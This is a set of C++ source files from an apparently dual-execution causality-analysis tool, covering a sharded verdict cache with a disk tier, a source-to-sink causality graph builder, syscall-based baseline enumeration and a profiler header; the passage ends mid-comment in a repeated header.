            resp += r;
        }
        appendKv(out, "peer:" + host,
                 (script.echo ? "echo|" : "script|") + resp);
    }
    for (const os::IncomingConn &conn : world.incoming)
        appendKv(out, "incoming", conn.request);
    for (const auto &[name, value] : world.env)
        appendKv(out, "env:" + name, value);
    appendKv(out, "pid", std::to_string(world.pid));
    appendKv(out, "clock",
             std::to_string(world.clockBase) + "+" +
                 std::to_string(world.clockStepPerQuery));
    appendKv(out, "rdtsc", std::to_string(world.rdtscSeed));
    appendKv(out, "random", std::to_string(world.randomSeed));
    appendKv(out, "heap", std::to_string(world.heapBaseJitter));
    return out;
}

std::uint64_t
hashWorld(const os::WorldSpec &world)
{
    return obs::fnv1a(canonicalWorld(world));
}

std::uint64_t
hashProgram(const ir::Module &module)
{
    std::ostringstream ss;
    ir::printModule(ss, module);
    return obs::fnv1a(ss.str());
}

std::string
serializeVerdict(const QueryVerdict &v)
{
    std::string out = kRecordMagic;
    out += '\n';
    appendKv(out, "causality", v.causality ? "1" : "0");
    appendKv(out, "quality", verdictQualityName(v.quality));
    appendKv(out, "master_exit", std::to_string(v.masterExit));
    appendKv(out, "slave_exit", std::to_string(v.slaveExit));
    appendKv(out, "master_trapped", v.masterTrapped ? "1" : "0");
    appendKv(out, "slave_trapped", v.slaveTrapped ? "1" : "0");
    appendKv(out, "aligned", std::to_string(v.alignedSyscalls));
    appendKv(out, "diffs", std::to_string(v.syscallDiffs));
    appendKv(out, "findings", std::to_string(v.findings));
    for (const EdgeEvidence &e : v.edges)
        appendKv(out, "edge",
                 e.sinkId + "\t" + e.kind + "\t" +
                     std::to_string(e.count));
    // End sentinel: a checksum of the full body. A writer killed
    // mid-record — even exactly at a line boundary — leaves a file
    // without a matching sentinel, which parses as a clean miss.
    appendKv(out, "end", std::to_string(obs::fnv1a(out)));
    return out;
}

std::optional<QueryVerdict>
parseVerdict(const std::string &text)
{
    // The final line must be the end sentinel, and its checksum must
    // cover everything before it. Anything else is a torn or foreign
    // record and reads as a miss.
    if (text.empty() || text.back() != '\n')
        return std::nullopt;
    std::size_t prev = text.rfind('\n', text.size() - 2);
    std::size_t lastStart = prev == std::string::npos ? 0 : prev + 1;
    std::string last =
        text.substr(lastStart, text.size() - 1 - lastStart);
    if (last.rfind("end\t", 0) != 0)
        return std::nullopt;
    std::string body = text.substr(0, lastStart);
    if (last.substr(4) != std::to_string(obs::fnv1a(body)))
        return std::nullopt;

    std::istringstream in(body);
    std::string line;
    if (!std::getline(in, line) || line != kRecordMagic)
        return std::nullopt;
    QueryVerdict v;
    while (std::getline(in, line)) {
        if (line.empty())
            continue;
        auto tab = line.find('\t');
        if (tab == std::string::npos)
            return std::nullopt;
        std::string key = line.substr(0, tab);
        std::string val = line.substr(tab + 1);
        try {
            if (key == "causality") {
                v.causality = val == "1";
            } else if (key == "quality") {
                if (val == "clean")
                    v.quality = VerdictQuality::Clean;
                else if (val == "decoupled")
                    v.quality = VerdictQuality::Decoupled;
                else if (val == "timed-out")
                    v.quality = VerdictQuality::TimedOut;
                else
                    return std::nullopt;
            } else if (key == "master_exit") {
                v.masterExit = std::stoll(val);
            } else if (key == "slave_exit") {
                v.slaveExit = std::stoll(val);
            } else if (key == "master_trapped") {
                v.masterTrapped = val == "1";
            } else if (key == "slave_trapped") {
                v.slaveTrapped = val == "1";
            } else if (key == "aligned") {
                v.alignedSyscalls = std::stoull(val);
            } else if (key == "diffs") {
                v.syscallDiffs = std::stoull(val);
            } else if (key == "findings") {
                v.findings = std::stoull(val);
            } else if (key == "edge") {
                auto t1 = val.find('\t');
                auto t2 = val.find('\t', t1 + 1);
                if (t1 == std::string::npos || t2 == std::string::npos)
                    return std::nullopt;
                EdgeEvidence e;
                e.sinkId = val.substr(0, t1);
                e.kind = val.substr(t1 + 1, t2 - t1 - 1);
                e.count = std::stoull(val.substr(t2 + 1));
                v.edges.push_back(std::move(e));
            }
            // Unknown keys are skipped so v2 readers stay compatible.
        } catch (const std::exception &) {
            return std::nullopt;
        }
    }
    return v;
}

ResultCache::ResultCache(std::size_t capacity, std::string dir,
                         obs::Registry *registry)
    : capacity_(capacity ? capacity : 1), dir_(std::move(dir)),
      registry_(registry)
{}

void
ResultCache::touch(std::map<CacheKey, std::size_t>::iterator it)
{
    Slot &slot = slots_[it->second];
    lru_.erase(slot.lruPos);
    lru_.push_front(it->second);
    slot.lruPos = lru_.begin();
}

std::optional<QueryVerdict>
ResultCache::lookup(const CacheKey &key)
{
    std::optional<QueryVerdict> v = peek(key);
    if (!v) {
        ++misses_;
        if (registry_)
            registry_->counter("campaign.cache.misses").inc();
    }
    return v;
}

std::optional<QueryVerdict>
ResultCache::peek(const CacheKey &key)
{
    auto it = entries_.find(key);
    if (it != entries_.end()) {
        touch(it);
        ++hits_;
        if (registry_)
            registry_->counter("campaign.cache.hits").inc();
        return slots_[it->second].verdict;
    }
    if (!dir_.empty()) {
        std::optional<QueryVerdict> disk = loadFromDisk(key);
        if (disk) {
            ++hits_;
            ++diskLoads_;
            if (registry_) {
                registry_->counter("campaign.cache.hits").inc();
                registry_->counter("campaign.cache.disk_loads").inc();
            }
            // Promote into the memory tier (without re-writing disk).
            QueryVerdict v = *disk;
            storeInMemory(key, v);
            return disk;
        }
    }
    return std::nullopt;
}

void
ResultCache::store(const CacheKey &key, const QueryVerdict &verdict)
{
    storeInMemory(key, verdict);
    if (!dir_.empty())
        storeToDisk(key, verdict);
}

void
ResultCache::storeInMemory(const CacheKey &key,
                           const QueryVerdict &verdict)
{
    auto it = entries_.find(key);
    if (it != entries_.end()) {
        slots_[it->second].verdict = verdict;
        touch(it);
        return;
    }
    if (entries_.size() >= capacity_) {
        std::size_t victim = lru_.back();
        lru_.pop_back();
        entries_.erase(slots_[victim].key);
        freeSlots_.push_back(victim);
        ++evictions_;
        if (registry_)
            registry_->counter("campaign.cache.evictions").inc();
    }
    std::size_t slot_idx;
    if (!freeSlots_.empty()) {
        slot_idx = freeSlots_.back();
        freeSlots_.pop_back();
    } else {
        slot_idx = slots_.size();
        slots_.emplace_back();
    }
    Slot &slot = slots_[slot_idx];
    slot.key = key;
    slot.verdict = verdict;
    lru_.push_front(slot_idx);
    slot.lruPos = lru_.begin();
    entries_.emplace(key, slot_idx);
}

std::optional<QueryVerdict>
ResultCache::loadFromDisk(const CacheKey &key)
{
    std::ifstream in(dir_ + "/" + key.digest() + ".ldxq",
                     std::ios::binary);
    if (!in)
        return std::nullopt;
    std::ostringstream ss;
    ss << in.rdbuf();
    return parseVerdict(ss.str());
}

void
ResultCache::storeToDisk(const CacheKey &key, const QueryVerdict &verdict)
{
    std::error_code ec;
    std::filesystem::create_directories(dir_, ec);
    std::string path = dir_ + "/" + key.digest() + ".ldxq";
    // Write-to-temp + atomic rename: a reader never observes a
    // half-written record, and concurrent writers of the same key
    // each land a complete record (last rename wins). The temp name
    // is per-thread-unique so concurrent writers don't tear each
    // other's temp files either.
    std::string tmp =
        path + ".tmp." +
        std::to_string(std::hash<std::thread::id>{}(
                           std::this_thread::get_id()) &
                       0xffffff);
    {
        std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
        if (!out)
            return;
        out << serializeVerdict(verdict);
        if (!out) {
            out.close();
            std::filesystem::remove(tmp, ec);
            return;
        }
    }
    std::filesystem::rename(tmp, path, ec);
    if (ec) {
        std::filesystem::remove(tmp, ec);
        return;
    }
    ++diskStores_;
    if (registry_)
        registry_->counter("campaign.cache.disk_stores").inc();
}

// ---------------------------------------------------------------
// ShardedResultCache
// ---------------------------------------------------------------

ShardedResultCache::ShardedResultCache(std::size_t capacity,
                                       std::size_t shards,
                                       std::string dir,
                                       obs::Registry *registry)
    : registry_(registry)
{
    if (capacity == 0)
        capacity = 1;
    if (shards == 0)
        shards = 1;
    if (shards > capacity)
        shards = capacity; // keep every shard cap >= 1 exact
    // Split the global cap across shards; the remainder goes to the
    // first shards so the caps sum to exactly `capacity`.
    std::size_t base = capacity / shards;
    std::size_t extra = capacity % shards;
    shards_.reserve(shards);
    for (std::size_t i = 0; i < shards; ++i)
        shards_.push_back(std::make_unique<Shard>(
            base + (i < extra ? 1 : 0), dir));
}

ShardedResultCache::Shard &
ShardedResultCache::shardFor(const CacheKey &key)
{
    return *shards_[obs::fnv1a(key.digest()) % shards_.size()];
}

std::optional<QueryVerdict>
ShardedResultCache::peekLocked(Shard &shard, const CacheKey &key,
                               obs::Registry *tenant)
{
    std::uint64_t loads = shard.cache.diskLoads();
    std::optional<QueryVerdict> v = shard.cache.peek(key);
    if (!v)
        return std::nullopt;
    bool fromDisk = shard.cache.diskLoads() != loads;
    if (registry_) {
        registry_->counter("serve.cache.hits").inc();
        if (fromDisk)
            registry_->counter("serve.cache.disk_loads").inc();
    }
    if (tenant) {
        tenant->counter("campaign.cache.hits").inc();
        if (fromDisk)
            tenant->counter("campaign.cache.disk_loads").inc();
    }
    return v;
}

void
ShardedResultCache::countMiss(obs::Registry *tenant)
{
    missCount_.fetch_add(1, std::memory_order_relaxed);
    if (registry_)
        registry_->counter("serve.cache.misses").inc();
    if (tenant)
        tenant->counter("campaign.cache.misses").inc();
}

void
ShardedResultCache::storeLocked(Shard &shard, const CacheKey &key,
                                const QueryVerdict &verdict,
                                obs::Registry *tenant)
{
    std::uint64_t evicts = shard.cache.evictions();
    std::uint64_t stores = shard.cache.diskStores();
    shard.cache.store(key, verdict);
    if (shard.cache.evictions() != evicts) {
        if (registry_)
            registry_->counter("serve.cache.evictions").inc();
        if (tenant)
            tenant->counter("campaign.cache.evictions").inc();
    }
    if (shard.cache.diskStores() != stores) {
        if (registry_)
            registry_->counter("serve.cache.disk_stores").inc();
        if (tenant)
            tenant->counter("campaign.cache.disk_stores").inc();
    }
}

std::optional<QueryVerdict>
ShardedResultCache::lookup(const CacheKey &key, obs::Registry *tenant)
{
    Shard &shard = shardFor(key);
    std::lock_guard<std::mutex> lock(shard.mutex);
    std::optional<QueryVerdict> v = peekLocked(shard, key, tenant);
    if (!v)
        countMiss(tenant);
    return v;
}

void
ShardedResultCache::store(const CacheKey &key,
                          const QueryVerdict &verdict,
                          obs::Registry *tenant)
{
    Shard &shard = shardFor(key);
    std::lock_guard<std::mutex> lock(shard.mutex);
    storeLocked(shard, key, verdict, tenant);
}

QueryVerdict
ShardedResultCache::getOrCompute(const CacheKey &key,
                                 const std::function<QueryVerdict()> &fn,
                                 bool *computed, obs::Registry *tenant)
{
    Shard &shard = shardFor(key);
    std::string digest = key.digest();
    {
        std::unique_lock<std::mutex> lock(shard.mutex);
        for (;;) {
            std::optional<QueryVerdict> v =
                peekLocked(shard, key, tenant);
            if (v) {
                if (computed)
                    *computed = false;
                return *v;
            }
            if (!shard.inflight.count(digest))
                break;
            // Another thread is computing this exact key: wait and
            // re-probe. The eventual probe counts as a hit; only
            // the computing thread charges the miss.
            shard.cv.wait(lock, [&] {
                return !shard.inflight.count(digest);
            });
        }
        countMiss(tenant);
        shard.inflight.insert(digest);
    }
    QueryVerdict verdict;
    try {
        verdict = fn(); // outside the shard lock
    } catch (...) {
        {
            std::lock_guard<std::mutex> lock(shard.mutex);
            shard.inflight.erase(digest);
        }
        shard.cv.notify_all();
        throw;
    }
    {
        std::lock_guard<std::mutex> lock(shard.mutex);
        storeLocked(shard, key, verdict, tenant);
        shard.inflight.erase(digest);
    }
    shard.cv.notify_all();
    if (computed)
        *computed = true;
    return verdict;
}

std::size_t
ShardedResultCache::size() const
{
    std::size_t total = 0;
    for (const auto &s : shards_) {
        std::lock_guard<std::mutex> lock(s->mutex);
        total += s->cache.size();
    }
    return total;
}

std::uint64_t
ShardedResultCache::hits() const
{
    std::uint64_t total = 0;
    for (const auto &s : shards_) {
        std::lock_guard<std::mutex> lock(s->mutex);
        total += s->cache.hits();
    }
    return total;
}

std::uint64_t
ShardedResultCache::misses() const
{
    // Shards probe via ResultCache::peek (which never counts a
    // miss), so misses are tallied here at the sharded level.
    return missCount_.load(std::memory_order_relaxed);
}

std::uint64_t
ShardedResultCache::evictions() const
{
    std::uint64_t total = 0;
    for (const auto &s : shards_) {
        std::lock_guard<std::mutex> lock(s->mutex);
        total += s->cache.evictions();
    }
    return total;
}

} // namespace ldx::query
