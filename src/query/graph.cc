#include "query/graph.h"

#include <algorithm>
#include <set>

#include "obs/json.h"

namespace ldx::query {

namespace {

/** The worse (less trustworthy) of two qualities. */
VerdictQuality
worseOf(VerdictQuality a, VerdictQuality b)
{
    return static_cast<int>(a) >= static_cast<int>(b) ? a : b;
}

void
appendSourceJson(std::string &out, const GraphSource &s)
{
    out += "{\"id\":";
    obs::appendJsonString(out, s.id);
    out += ",\"class\":";
    obs::appendJsonString(out, s.klass);
    out += ",\"resource\":";
    obs::appendJsonString(out, s.resource);
    out += ",\"queryable\":";
    out += s.queryable ? "true" : "false";
    out += ",\"events\":" + std::to_string(s.eventCount);
    out += ",\"first_event\":" + std::to_string(s.firstEvent);
    out += "}";
}

void
appendSinkJson(std::string &out, const GraphSink &s)
{
    out += "{\"id\":";
    obs::appendJsonString(out, s.id);
    out += ",\"channel\":";
    obs::appendJsonString(out, s.channel);
    out += ",\"events\":" + std::to_string(s.eventCount);
    out += "}";
}

void
appendEdgeJson(std::string &out, const GraphEdge &e)
{
    out += "{\"from\":";
    obs::appendJsonString(out, e.from);
    out += ",\"to\":";
    obs::appendJsonString(out, e.to);
    out += ",\"kinds\":{";
    bool first = true;
    for (const auto &[kind, count] : e.kinds) {
        if (!first)
            out += ',';
        first = false;
        obs::appendJsonString(out, kind);
        out += ':' + std::to_string(count);
    }
    out += "},\"policies\":[";
    for (std::size_t i = 0; i < e.policies.size(); ++i) {
        if (i)
            out += ',';
        obs::appendJsonString(out, e.policies[i]);
    }
    out += "],\"confidence\":" + obs::jsonNumber(e.confidence);
    out += ",\"quality\":";
    obs::appendJsonString(out, verdictQualityName(e.quality));
    out += "}";
}

} // namespace

std::string
CausalityGraph::toJson() const
{
    std::string out = "{\"schema\":\"ldx-campaign-graph-v1\"";
    out += ",\"program_hash\":\"" + std::to_string(programHash) + "\"";
    out += ",\"world_hash\":\"" + std::to_string(worldHash) + "\"";
    out += ",\"policies\":[";
    for (std::size_t i = 0; i < policies.size(); ++i) {
        if (i)
            out += ',';
        obs::appendJsonString(out, policies[i]);
    }
    out += "],\"sources\":[";
    for (std::size_t i = 0; i < sources.size(); ++i) {
        if (i)
            out += ',';
        appendSourceJson(out, sources[i]);
    }
    out += "],\"sinks\":[";
    for (std::size_t i = 0; i < sinks.size(); ++i) {
        if (i)
            out += ',';
        appendSinkJson(out, sinks[i]);
    }
    out += "],\"edges\":[";
    for (std::size_t i = 0; i < edges.size(); ++i) {
        if (i)
            out += ',';
        appendEdgeJson(out, edges[i]);
    }
    out += "]}";
    return out;
}

namespace {

/** DOT identifiers: quote and escape. */
std::string
dotId(const std::string &s)
{
    std::string out = "\"";
    for (char c : s) {
        if (c == '"' || c == '\\')
            out += '\\';
        out += c;
    }
    out += '"';
    return out;
}

} // namespace

std::string
CausalityGraph::toDot() const
{
    std::string out = "digraph campaign {\n  rankdir=LR;\n";
    for (const GraphSource &s : sources) {
        out += "  " + dotId(s.id) + " [shape=ellipse,label=" +
               dotId(s.resource) +
               (s.queryable ? "" : ",style=dashed") + "];\n";
    }
    for (const GraphSink &s : sinks) {
        out += "  " + dotId(s.id) + " [shape=box,label=" +
               dotId(s.channel.empty() ? s.id : s.channel) + "];\n";
    }
    for (const GraphEdge &e : edges) {
        std::string label;
        for (const auto &[kind, count] : e.kinds) {
            if (!label.empty())
                label += "\\n";
            label += kind + " x" + std::to_string(count);
        }
        char conf[32];
        std::snprintf(conf, sizeof conf, "%.2f", e.confidence);
        label += std::string("\\nconf=") + conf + " (" +
                 verdictQualityName(e.quality) + ")";
        out += "  " + dotId(e.from) + " -> " + dotId(e.to) +
               " [label=" + dotId(label) + "];\n";
    }
    out += "}\n";
    return out;
}

std::string
CausalityGraph::summaryText() const
{
    std::string out;
    if (edges.empty()) {
        out = "no causality between any enumerated source and sink\n";
        return out;
    }
    out = "causality edges (" + std::to_string(edges.size()) + "):\n";
    for (const GraphEdge &e : edges) {
        out += "  " + e.from + " -> " + e.to + "  [";
        bool first = true;
        for (const auto &[kind, count] : e.kinds) {
            if (!first)
                out += ", ";
            first = false;
            out += kind + " x" + std::to_string(count);
        }
        char conf[32];
        std::snprintf(conf, sizeof conf, "%.2f", e.confidence);
        out += std::string("] conf=") + conf + " quality=" +
               verdictQualityName(e.quality) + "\n";
    }
    return out;
}

CausalityGraph
buildGraph(const BaselineEnumeration &baseline,
           const std::vector<CampaignQuery> &queries,
           const std::vector<const QueryVerdict *> &verdicts,
           const std::vector<std::string> &policies,
           std::uint64_t program_hash, std::uint64_t world_hash)
{
    CausalityGraph g;
    g.programHash = program_hash;
    g.worldHash = world_hash;
    g.policies = policies;

    for (const SourceCandidate &s : baseline.sources) {
        GraphSource node;
        node.id = s.id;
        node.klass = sourceClassName(s.klass);
        node.resource = s.resource;
        node.queryable = s.queryable;
        node.eventCount = s.events.size();
        node.firstEvent = s.events.empty() ? 0 : s.events.front();
        g.sources.push_back(std::move(node));
    }
    std::set<std::string> sink_ids;
    for (const SinkCandidate &s : baseline.sinks) {
        GraphSink node;
        node.id = s.id;
        node.channel = s.channel;
        node.eventCount = s.events.size();
        sink_ids.insert(node.id);
        g.sinks.push_back(std::move(node));
    }

    // Fold verdicts into edges, keyed (source node, sink node).
    // Queries are visited in campaign order, so the policies vector
    // of every edge is ordered and deterministic.
    std::map<std::pair<std::string, std::string>, GraphEdge> edges;
    std::map<std::string, std::uint64_t> policies_per_source;
    for (std::size_t i = 0; i < queries.size(); ++i) {
        const QueryVerdict *v =
            i < verdicts.size() ? verdicts[i] : nullptr;
        if (!v)
            continue;
        const CampaignQuery &q = queries[i];
        ++policies_per_source[q.sourceId];
        for (const EdgeEvidence &ev : v->edges) {
            GraphEdge &edge = edges[{q.sourceId, ev.sinkId}];
            if (edge.from.empty()) {
                edge.from = q.sourceId;
                edge.to = ev.sinkId;
            }
            edge.kinds[ev.kind] += ev.count;
            std::string policy = core::mutationStrategyName(q.strategy);
            if (std::find(edge.policies.begin(), edge.policies.end(),
                          policy) == edge.policies.end())
                edge.policies.push_back(policy);
            edge.quality = worseOf(edge.quality, v->quality);

            // Evidence may hit a sink the baseline never produced
            // (a VM-level sink, or a channel only the slave touched):
            // append it once, after the baseline sinks.
            if (sink_ids.insert(ev.sinkId).second) {
                GraphSink node;
                node.id = ev.sinkId;
                if (ev.sinkId.rfind("sink:", 0) == 0 &&
                    ev.sinkId != "sink:ret-token" &&
                    ev.sinkId != "sink:alloc-size" &&
                    ev.sinkId != "sink:termination")
                    node.channel =
                        ev.sinkId.substr(sizeof("sink:") - 1);
                g.sinks.push_back(std::move(node));
            }
        }
    }
    for (auto &[key, edge] : edges) {
        std::uint64_t ran = policies_per_source[edge.from];
        edge.confidence =
            ran ? static_cast<double>(edge.policies.size()) /
                      static_cast<double>(ran)
                : 0.0;
        g.edges.push_back(std::move(edge));
    }
    // std::map iteration already sorted g.edges by (from, to).

    // Synthetic sinks appended above depend only on verdict content,
    // which is deterministic; still, sort the non-baseline tail by id
    // so the ordering is self-evidently canonical.
    std::size_t baseline_sinks = baseline.sinks.size();
    std::sort(g.sinks.begin() +
                  static_cast<std::ptrdiff_t>(baseline_sinks),
              g.sinks.end(),
              [](const GraphSink &a, const GraphSink &b) {
                  return a.id < b.id;
              });
    return g;
}

} // namespace ldx::query
