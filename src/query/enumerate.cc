#include "query/enumerate.h"

#include <map>

#include "instrument/instrument.h"
#include "obs/recorder.h"
#include "os/kernel.h"
#include "os/sysno.h"
#include "os/vfs.h"
#include "support/diag.h"

namespace ldx::query {

namespace {

/**
 * Pass-through SyscallPort that mirrors the port-less execution
 * semantics exactly (input/output syscalls execute against the
 * kernel; local/sync syscalls are left to the VM) while recording
 * every non-sync event into the enumeration.
 */
class RecordingPort : public vm::SyscallPort
{
  public:
    RecordingPort(BaselineEnumeration &out, const EnumerateOptions &opts)
        : out_(out), opts_(opts)
    {}

    vm::PortReply
    onSyscall(const vm::SyscallRequest &req, vm::Machine &vm,
              os::Outcome &out) override
    {
        const os::SysDesc &desc = os::sysDesc(req.sysNo);
        if (desc.klass == os::SysClass::Sync)
            return vm::PortReply::Done; // mutex traffic is not an event

        BaselineEvent evt;
        evt.tid = req.tid;
        evt.sysNo = req.sysNo;
        evt.site = req.site;
        evt.cnt = req.cnt;
        evt.loc = req.loc;
        // Resource / payload are read before execution (a read()'s
        // resource is the fd's backing file regardless of outcome).
        try {
            evt.resource =
                vm.kernel().resourceKey(req.sysNo, req.args, vm.memory());
        } catch (const vm::VmTrap &) {
            evt.resource.clear();
        }
        if (desc.klass == os::SysClass::Output) {
            std::string payload;
            try {
                payload = vm.kernel().sinkPayload(req.sysNo, req.args,
                                                  vm.memory());
            } catch (const vm::VmTrap &) {
                payload = "fault|";
            }
            evt.channel = payload.substr(0, payload.find('|'));
            evt.payloadHash = obs::fnv1a(payload);
        }
        if (desc.klass != os::SysClass::Local) {
            out = vm.kernel().execute(req.sysNo, req.args, vm.memory());
            evt.ret = out.ret;
        }
        append(std::move(evt));
        return vm::PortReply::Done;
    }

    vm::PortReply
    onBarrier(int, std::int64_t, std::int64_t, std::int64_t,
              std::int64_t, vm::Machine &) override
    {
        // Native run: the barrier degenerates to its counter reset,
        // which the VM applies after Done.
        return vm::PortReply::Done;
    }

  private:
    void
    append(BaselineEvent evt)
    {
        evt.id = out_.totalEvents++;
        classify(evt);
        if (out_.events.size() < opts_.eventCap)
            out_.events.push_back(std::move(evt));
        else
            ++out_.droppedEvents;
    }

    void
    classify(const BaselineEvent &evt)
    {
        switch (static_cast<os::Sys>(evt.sysNo)) {
          case os::Sys::GetEnv:
            noteSource(evt, SourceClass::Env);
            break;
          case os::Sys::Read:
            if (evt.resource.rfind("path:", 0) == 0)
                noteSource(evt, SourceClass::File);
            else if (evt.resource == "net:client")
                noteSource(evt, SourceClass::Incoming);
            else if (evt.resource.rfind("net:", 0) == 0)
                noteSource(evt, SourceClass::Peer);
            break;
          case os::Sys::Recv:
            noteSource(evt, evt.resource == "net:client"
                                ? SourceClass::Incoming
                                : SourceClass::Peer);
            break;
          case os::Sys::Time:
          case os::Sys::Rdtsc:
            noteSource(evt, SourceClass::Clock);
            break;
          case os::Sys::Random:
            noteSource(evt, SourceClass::Rand);
            break;
          case os::Sys::GetPid:
            noteSource(evt, SourceClass::Pid);
            break;
          case os::Sys::Write:
          case os::Sys::Send:
          case os::Sys::Print:
            noteSink(evt);
            break;
          default:
            break;
        }
    }

    void
    noteSource(const BaselineEvent &evt, SourceClass klass)
    {
        // The nondeterminism family has no resource key; synthesize a
        // per-class one so each family aggregates into one candidate.
        std::string resource = evt.resource.empty()
                                   ? std::string("nondet:") +
                                         sourceClassName(klass)
                                   : evt.resource;
        auto it = sourceIdx_.find(resource);
        if (it == sourceIdx_.end()) {
            SourceCandidate cand;
            cand.id = std::string("src:") + sourceClassName(klass) +
                      ":" + resource;
            cand.klass = klass;
            cand.resource = resource;
            it = sourceIdx_.emplace(resource, out_.sources.size()).first;
            out_.sources.push_back(std::move(cand));
        }
        out_.sources[it->second].events.push_back(evt.id);
    }

    void
    noteSink(const BaselineEvent &evt)
    {
        if (evt.channel.empty() ||
            !opts_.sinks.matchesChannel(evt.channel))
            return;
        auto it = sinkIdx_.find(evt.channel);
        if (it == sinkIdx_.end()) {
            SinkCandidate cand;
            cand.id = "sink:" + evt.channel;
            cand.channel = evt.channel;
            it = sinkIdx_.emplace(evt.channel, out_.sinks.size()).first;
            out_.sinks.push_back(std::move(cand));
        }
        SinkCandidate &cand = out_.sinks[it->second];
        cand.events.push_back(evt.id);
        bool known = false;
        for (int s : cand.sites)
            known |= s == evt.site;
        if (!known)
            cand.sites.push_back(evt.site);
    }

    BaselineEnumeration &out_;
    const EnumerateOptions &opts_;
    std::map<std::string, std::size_t> sourceIdx_;
    std::map<std::string, std::size_t> sinkIdx_;
};

/**
 * Resolve which WorldSpec resource backs @p cand and fill in its
 * mutation spec. A source is queryable only when the resource exists
 * in the world image — mutateWorld() perturbs the *initial* world, so
 * a file created at runtime and read back has no mutable backing.
 */
void
resolveSpec(SourceCandidate &cand, const os::WorldSpec &world)
{
    switch (cand.klass) {
      case SourceClass::Env: {
        std::string name = cand.resource.substr(sizeof("env:") - 1);
        if (world.env.count(name)) {
            cand.spec = core::SourceSpec::env(name);
            cand.queryable = true;
        }
        break;
      }
      case SourceClass::File: {
        std::string path = cand.resource.substr(sizeof("path:") - 1);
        for (const auto &[key, _] : world.files) {
            if (os::Vfs::normalize(key) == path) {
                cand.spec = core::SourceSpec::file(key);
                cand.queryable = true;
                break;
            }
        }
        break;
      }
      case SourceClass::Peer: {
        std::string host = cand.resource.substr(sizeof("net:") - 1);
        if (world.peers.count(host)) {
            cand.spec = core::SourceSpec::peer(host);
            cand.queryable = true;
        }
        break;
      }
      case SourceClass::Incoming:
        if (!world.incoming.empty()) {
            cand.spec = core::SourceSpec::incoming();
            cand.queryable = true;
        }
        break;
      case SourceClass::Clock:
      case SourceClass::Rand:
      case SourceClass::Pid:
        // The coupling exists to suppress this nondeterminism; there
        // is no world resource a mutation policy could perturb.
        break;
    }
}

} // namespace

const char *
sourceClassName(SourceClass c)
{
    switch (c) {
      case SourceClass::Env: return "env";
      case SourceClass::File: return "file";
      case SourceClass::Peer: return "peer";
      case SourceClass::Incoming: return "incoming";
      case SourceClass::Clock: return "clock";
      case SourceClass::Rand: return "rand";
      case SourceClass::Pid: return "pid";
    }
    return "?";
}

std::vector<const SourceCandidate *>
BaselineEnumeration::queryableSources() const
{
    std::vector<const SourceCandidate *> out;
    for (const SourceCandidate &s : sources)
        if (s.queryable)
            out.push_back(&s);
    return out;
}

BaselineEnumeration
enumerateBaseline(const ir::Module &module, const os::WorldSpec &world,
                  const EnumerateOptions &opts)
{
    if (!instrument::isInstrumented(module))
        fatal("enumerateBaseline requires a counter-instrumented "
              "module");

    BaselineEnumeration out;
    RecordingPort port(out, opts);
    os::Kernel kernel(world);
    vm::Machine machine(module, kernel, opts.vmConfig);
    machine.setSyscallPort(&port);
    vm::StepStatus st = machine.run();

    out.exitCode = machine.exitCode();
    out.trapped = st == vm::StepStatus::Trapped;
    if (machine.trap())
        out.trapMessage = machine.trap()->message;
    out.instructions = machine.stats().instructions;

    for (SourceCandidate &cand : out.sources)
        resolveSpec(cand, world);
    return out;
}

} // namespace ldx::query
