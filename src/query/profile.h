/**
 * @file
 * Post-run campaign profiler (`ldx campaign --profile-out`).
 *
 * The causality graph is deliberately timing-free so it byte-diffs
 * across worker counts; the profiler is the opposite artifact — all
 * the timing and scheduling data a performance investigation needs,
 * written separately so the `ldx-campaign-graph-v1` output stays
 * untouched:
 *
 *  - disposition counts (completed / cached / timed-out / cancelled /
 *    failed) and dual-execution totals;
 *  - exec-latency and queue-wait percentile summaries (p50/p95/p99)
 *    over the executed queries;
 *  - cache and work-stealing statistics plus per-worker busy time and
 *    overall pool utilization from the campaign registry;
 *  - the campaign phase breakdown (enumerate / plan / probe-cache /
 *    execute / aggregate);
 *  - the top-N slowest queries with per-phase (queue-wait, exec)
 *    breakdown, worker, status, and verdict quality.
 *
 * Schema `ldx-campaign-profile-v1`. Ordering is deterministic (ties
 * in the slowest-query ranking break on query index), but the values
 * are wall-clock measurements — never byte-diff this artifact.
 */
#pragma once

#include <cstddef>
#include <string>

#include "obs/registry.h"
#include "query/campaign.h"

namespace ldx::query {

/** Profiler options. */
struct ProfileOptions
{
    /** Slowest-query entries reported (>= 0). */
    std::size_t topN = 10;
};

/**
 * Render the profile report of @p res as one JSON document.
 * @p snap is the campaign registry's post-run snapshot (cache, steal,
 * and utilization statistics are read from it).
 */
std::string profileJson(const CampaignResult &res,
                        const obs::MetricsSnapshot &snap,
                        const ProfileOptions &opt = {});

} // namespace ldx::query
