/**
 * @file
 * Post-run campaign profiler (`ldx campaign --profile-out`).
 *
 * The causality graph is deliberately timing-free so it byte-diffs
 * across worker counts; the profiler is the opposite artifact — all
 * the timing and scheduling data a performance investigation needs,
 * written separately so the `ldx-campaign-graph-v1` output stays
 * untouched:
 *
 *  - disposition counts (completed / cached / timed-out / cancelled /
 *    failed) and dual-execution totals;
 *  - exec-latency and queue-wait percentile summaries (p50/p95/p99)
 *    over the executed queries;
 *  - cache and work-stealing statistics plus per-worker busy time and
 *    overall pool utilization from the campaign registry;
 *  - the campaign phase breakdown (enumerate / plan / probe-cache /
 *    execute / aggregate);
 *  - the top-N slowest queries with per-phase (queue-wait, exec)
 *    breakdown, worker, status, and verdict quality.
 *
 * Schema `ldx-campaign-profile-v1`. Ordering is deterministic (ties
 * in the slowest-query ranking break on query index), but the values
 * are wall-clock measurements — never byte-diff this artifact.
 */
#pragma once

#include <cstddef>
#include <string>

#include "obs/profiler.h"
#include "obs/registry.h"
#include "query/campaign.h"

namespace ldx::query {

/** Profiler options. */
struct ProfileOptions
{
    /** Slowest-query entries reported (>= 0). */
    std::size_t topN = 10;
};

/**
 * Render the profile report of @p res as one JSON document.
 * @p snap is the campaign registry's post-run snapshot (cache, steal,
 * and utilization statistics are read from it).
 */
std::string profileJson(const CampaignResult &res,
                        const obs::MetricsSnapshot &snap,
                        const ProfileOptions &opt = {});

/**
 * Render the campaign's guest-site heat map (`--site-profile-out`,
 * schema `ldx-site-heat-v1`) from the per-query compact profiles in
 * CampaignResult::queryProfiles.
 *
 * Two views of the same counters:
 *
 *  - "sites": the program-wide hot list — every query's master-side
 *    costs summed per (fn, idx), ranked by retired instructions
 *    (ties break on (fn, idx)), capped at @p topSites;
 *  - "sources": one entry per queried source id in enumeration
 *    order, that source's queries merged, sites ranked by the
